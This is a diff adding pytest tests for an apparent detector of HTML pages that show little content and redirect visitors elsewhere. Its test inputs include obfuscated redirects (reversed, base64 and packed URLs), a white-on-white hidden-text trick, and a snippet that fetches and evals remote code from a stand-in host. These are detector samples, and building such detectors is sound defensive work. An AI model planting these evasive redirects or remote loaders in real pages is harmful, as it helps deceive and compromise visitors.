@@ -1,0 +1,120 @@
+"""Pages that show nothing themselves and lead away."""
+
+from __future__ import annotations
+
+import pytest
+
+from gateway.extract.effort import Stage
+from gateway.extract.page.code import active
+from gateway.extract.page.html import parse
+from gateway.extract.page.played import play
+from gateway.model.content import Observation
+
+WORDS = "<p>" + "There is something to read here. " * 40
+FRAME = "<iframe src='https://h.example/l' style='width:100%;height:100%'></iframe>"
+
+
+def acts(source: str) -> dict[str, str]:
+    return {i.code: i.detail for i in active(parse(source), source) if isinstance(i, Observation)}
+
+
+def seen(source: str) -> str:
+    """The door of a page that is played."""
+    return {i.code: i.detail for i in active(parse(source), source, play(source, Stage())) if isinstance(i, Observation)}.get("HTML-DOOR", "")
+
+
+@pytest.mark.parametrize("source", [
+    "<meta http-equiv=refresh content='0;url=https://h.example/'>", "<script>location.href='https://h.example/#'+x</script>",
+    "<script>window.location.replace(\"//h.example\")</script>",
+    "<form id=f action='https://h.example/s'></form><script>f.submit()</script>", "<script src='https://h.example/a.js'></script>",
+    "<script>fetch('https://h.example/a').then(r=>r.text()).then(t=>document.write(t))</script>",
+    "<script>new WebSocket('wss://h.example').onmessage=e=>document.write(e.data)</script>",
+    "<script type=module>import 'https://h.example/a.mjs'</script>", "<meta content='0;url=https:h.example' http-equiv=\"Refresh\">",
+    "<script>self['location']['href']='https://h.example/'</script>", "<script>var u='https://h.example';location=u</script>",
+    "<script>location='elpmaxe.h//:sptth'.split('').reverse().join('')</script>", "<a id=x href='//h.example'></a><script>x.click()</script>",
+    "<script>document.write('<iframe src=https://h.example>')</script>", "<title>" + "Please wait. " * 30 + "</title><script>open('a');top.location="
+    "'https://h.example'</script>", "<p>You are being redirected.</p>" * 12 + "<script>location.href='https://h.example/'</script>",
+    "<script>with(location)href='https://h.example/'</script>", "<script>location.host='h.example'</script>",
+    "<script>a=document.createElement('a');a.href='\\x68ttps://h.example';a.click()</script>", "<meta/http-equiv=refresh/content='0;//h.example'>",
+    "<script>window['loc'+'ation'].replace('hXXps://h.example'.replace('XX','tt'))</script>", "<!--https://h.example--><script>location=x</script>",
+    "<meta http-equiv='&#114;efresh' content='0, &#104;ttps://h.example'>", "<script>document.write('<scr'+'ipt src='+atob(a)+'>')</script>",
+    "<base href='https://h.example/'><form action=p id=f></form><script>f.submit()</script>", "<script>s.src='//h.example/x'</script>", FRAME,
+    "<script>eval(function(p,a,c,k,e,d){return p}('0.1=\\'2://3.4/\\'',10,5,'location|href|https|h|example'.split('|'),0,{}))</script>",
+])
+def test_doors(source):
+    assert "HTML-DOOR" in acts(source)
+    assert "HTML-DOOR" not in acts(source + WORDS)
+
+
+@pytest.mark.parametrize("source", [
+    "<script>window.location.replace('com/x/package-summary.html')</script>", "<meta http-equiv=refresh content='0;url=index2.html'>",
+    "<noscript><meta http-equiv=refresh content='0; url=https://h.example/?noscript=1'></noscript>",
+    "<script src='https://h.example/charts.js'></script><script>draw(" + "1.5, " * 100 + "2)</script>",
+    "<script src='a.js'></script>", "<form action='https://h.example/s'></form>", "<iframe src='https://h.example/' width=560></iframe>",
+    "<frameset><frame src='toc.html'></frameset><script>if (top.page) top.classFrame.location = top.page;</script>",
+    "<p>" + "words to read " * 9 + "<button onclick=\"location.href='https://h.example/'\">Open</button>",
+    "<script src='https://h.example/a.js'></script><table>" + "<tr><td>1234.5</td><td>77</td></tr>" * 30 + "</table>",
+    "<!DOCTYPE html PUBLIC '' 'http://www.w3.org/TR/html4/frameset.dtd'><script>p=''+window.location.search;top.f.location=p</script>",
+    "<form action='https://h.example/s'><input type=submit></form><script>function go(){document.forms[0].submit()}</script>",
+    "<form action='https://h.example/s'><input type=password></form><script>f.submit()</script>",
+    "<script>document.write(unescape(\"%3Cscript src='\" + (document.location.protocol == \"https:\" ? \"https://sb\" : \"http://b\")))</script>",
+    "<script>j=d.createElement(s);j.src='https://www.googletagmanager.com/gtm.js?id='+i</script>",
+    "<p>新聞</p>" * 61 + "<script>location=u;v='https://h.example'</script>",
+    "<script>data=[{u:'https://h.example/a'}];o.innerHTML=data[0].u</script>", "<script>" + "function(){return 1};" * 50 + "location=u;v='https://h'</script>",
+    "<script>if (location.hash == 'x') location.hash = ''; location = '#top'; location.replace('a.html')</script>", "<a href='https://h.example/'>x</a>",
+])
+def test_other_pages_are_no_doors(source):
+    assert "HTML-DOOR" not in acts(source)
+
+
+def test_words_in_the_colour_of_the_ground_are_nothing_to_read():
+    filler, leaves = "lorem ipsum dolor sit amet " * 40, "<script>location.href='https://h.invalid/'</script>"
+    assert "HTML-DOOR" in acts(f"<p style='color:#fff'>{filler}</p>{leaves}")
+    assert "HTML-DOOR" not in acts(f"<p style='color:#333'>{filler}</p>{leaves}")
+    assert "HTML-DOOR" not in acts(f"<body style='background:#003'><p style='color:#fff'>{filler}</p>{leaves}")
+
+
+@pytest.mark.parametrize("script", [
+    "location=['h','t','t','p'].reduce((a,b)=>a+b)", "location=[[1,'t'],[0,'h']].sort().map(x=>x[1]).join('')",
+    "location=String.fromCodePoint(0x68,0x74)", "location=new TextDecoder().decode(new Uint8Array([104,116]))",
+    "Promise.resolve('aHR0cHM6Ly94').then(atob).then(u=>open(u,'_top'))", "<![CDATA[loc]]>\n<![CDATA[ation='https://h.invalid']]>"])
+def test_ways_out_written_in_codes(script):
+    assert acts(f"<script>{script}</script>")["HTML-DOOR"] == "leaves for another page"
+
+
+def test_links_that_a_script_presses():
+    assert "HTML-DOOR" in acts("<a id=l href='https://h.invalid/'></a><script>l.dispatchEvent(new MouseEvent('click'))</script>")
+    assert "HTML-DOOR" not in acts("<script>window.dispatchEvent(new Event('resize'))</script>")
+    assert "HTML-DOOR" not in acts("<script>location = location.pathname.split('/').slice(0, -1).join('/')</script>")
+
+
+@pytest.mark.parametrize("page", [
+    "<applet code=A.class archive='http://h.invalid/a.jar'></applet>", "<object classid='clsid:1' codebase='http://h.invalid/a.cab'></object>",
+    "<style>b{width:expression(location='https://h.invalid')}</style>"])
+def test_programs_of_old_browsers(page):
+    assert "HTML-DOOR" in acts(page)
+    assert "HTML-DOOR" not in acts(WORDS + page)
+
+
+@pytest.mark.parametrize(("source", "way"), [
+    (WORDS + "<script>setTimeout(()=>{location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')},9)</script>", "leaves for another page"),
+    (WORDS + "<form id=f action=https://a.example/></form><script>f['sub'+'mit']()</script>", "leads on by itself"),
+    ("<script>location='ms-x:y'</script>", "calls a program"),
+    ("<p>Wait</p><script>document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/'}))</script>",
+     "is filled by another page"),
+    ("<p>Wait</p><script>self['fet'+'ch']('https://a.example/').then(r=>r.text()).then(eval)</script>", "gets its code from elsewhere"),
+    ("<p>Wait</p><script>crypto.subtle.decrypt({},k,new Uint8Array(99))</script>", "deciphers what it holds"),
+])
+def test_played_pages_that_lead_away(source, way):
+    assert seen(source) == way
+
+
+@pytest.mark.parametrize("source", [
+    WORDS + "<script>document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/'}))</script>",
+    "<script>if(/Android/.test(navigator.userAgent))location.href='https://m.example/'</script>",
+    "<p>Hi</p><script>var s=document.createElement('script');s.src='https://www.google-analytics.com/analytics.js';document.head.append(s)</script>",
+    "<button onclick=\"location='https://a.example/'\">Go</button>",
+    "<script>document.write('" + "There is something to read here. " * 9 + "<img src=https://a.example/a.png>')</script>",
+])
+def test_played_pages_that_do_not(source):
+    assert seen(source) == ""
